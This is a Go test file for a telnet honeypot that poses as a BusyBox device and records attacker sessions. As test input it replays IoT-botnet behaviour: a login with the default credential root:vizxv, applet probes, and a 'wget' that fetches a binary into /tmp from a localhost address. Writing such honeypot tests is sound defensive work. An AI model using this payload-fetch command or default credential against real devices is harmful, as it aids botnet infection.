package telnet

import (
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/decoys"
	"github.com/decnet/decnet/decoys/login"
	eventv1 "github.com/decnet/decnet/gen/decnet/event/v1"
)

// TestBusyBoxLoginRunsAsh logs into the BusyBox persona with a password
// the login policy lists, runs a bot's checks and download, and checks
// the transcript, the recording and the events.
func TestBusyBoxLoginRunsAsh(t *testing.T) {
	ts := startService(t, PersonaBusyBox, map[string]string{
		OptionRecordingDir:   t.TempDir(),
		login.KeyLogin:       "list",
		login.KeyCredentials: "root:vizxv",
	}, nil)
	c := newPolicyClient(t, dialFrom(t, "127.0.0.3", ts.addr), policyMinimal)
	c.readUntilText(" login: ")
	c.send("root\r\n")
	c.readUntilText("Password: ")
	c.send("vizxv\r\n")
	got := string(c.readUntilText("# "))
	if !strings.HasPrefix(got, "\r\n\r\n\r\nBusyBox v1.31.1 (") || !strings.HasSuffix(got, ") built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ") {
		t.Errorf("after login %q", got)
	}

	c.send("enable\r\n")
	if got := string(c.readUntilText("# ")); got != "enable\r\n-sh: enable: not found\r\n# " {
		t.Errorf("enable: %q", got)
	}
	c.send("/bin/busybox ECCHI\r\n")
	if got := string(c.readUntilText("# ")); got != "/bin/busybox ECCHI\r\nECCHI: applet not found\r\n# " {
		t.Errorf("applet check: %q", got)
	}
	c.send("cd /tmp; wget http://127.0.0.1:1/bins/arm7; exit\r\n")
	rest := string(c.readFor(5 * time.Second))
	if !strings.Contains(rest, "wget: can't connect to remote host (127.0.0.1): Connection refused\r\n") || !c.closed {
		t.Errorf("wget: %q closed=%v", rest, c.closed)
	}

	cmds := ts.emitter.waitFor(t, decoys.KindCommand, 3)
	var lines []string
	for _, e := range cmds {
		lines = append(lines, e.GetCommand().GetLine())
	}
	if strings.Join(lines, "|") != "enable|/bin/busybox ECCHI|cd /tmp; wget http://127.0.0.1:1/bins/arm7; exit" {
		t.Errorf("commands %q", lines)
	}
	dl := ts.emitter.waitFor(t, decoys.KindDownload, 1)[0].GetDownloadRequested()
	if dl.GetUrl() != "http://127.0.0.1:1/bins/arm7" || dl.GetTool() != "wget" || dl.GetOutcome() != "not_fetched" {
		t.Errorf("download %v", dl)
	}
	auth := ts.emitter.waitFor(t, decoys.KindAuthAttempt, 1)[0].GetAuthAttempt()
	if auth.GetOutcome() != eventv1.AuthOutcome_AUTH_OUTCOME_ACCEPTED || auth.GetPrincipal() != "root" {
		t.Errorf("auth %v", auth)
	}
	cast := string(ts.emitter.waitFor(t, decoys.KindSessionRecorded, 1)[0].GetSessionRecorded().GetCast())
	for _, want := range []string{"built-in shell (ash)", "ECCHI: applet not found", `"i", "enable\r"`} {
		if !strings.Contains(cast, want) {
			t.Errorf("recording lacks %q: %s", want, cast)
		}
	}
	if r := ts.emitter.waitFor(t, decoys.KindConnectionClosed, 1)[0].GetConnectionClosed().GetReason(); r != reasonShellExit {
		t.Errorf("close reason %q", r)
	}
}

// TestBusyBoxPolicyRejects keeps the policy's word: a password it does
// not list fails as BusyBox login fails.
func TestBusyBoxPolicyRejects(t *testing.T) {
	ts := startService(t, PersonaBusyBox, map[string]string{login.KeyLogin: "list", login.KeyCredentials: "root:vizxv"}, nil)
	c := newPolicyClient(t, dialFrom(t, "127.0.0.4", ts.addr), policyMinimal)
	c.readUntilText(" login: ")
	c.send("root\r\n")
	c.readUntilText("Password: ")
	c.send("admin\r\n")
	if got := string(c.readUntilText(" login: ")); !strings.HasPrefix(got, "\r\nLogin incorrect\r\n") {
		t.Errorf("reply %q", got)
	}
	a := ts.emitter.waitFor(t, decoys.KindAuthAttempt, 1)[0].GetAuthAttempt()
	if a.GetOutcome() != eventv1.AuthOutcome_AUTH_OUTCOME_REJECTED {
		t.Errorf("outcome %v", a.GetOutcome())
	}
}
